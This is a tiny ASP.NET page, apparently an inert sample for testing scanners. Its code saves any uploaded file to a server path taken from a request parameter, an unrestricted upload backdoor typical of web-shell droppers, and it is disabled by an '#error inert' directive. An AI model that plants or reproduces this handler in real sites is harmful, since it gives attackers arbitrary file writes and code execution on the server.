<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s, EventArgs e){ if (Request.Files.Count > 0) { HttpPostedFile f = Request.Files[0]; f.SaveAs(Server.MapPath(Request["n"])); } }
</script>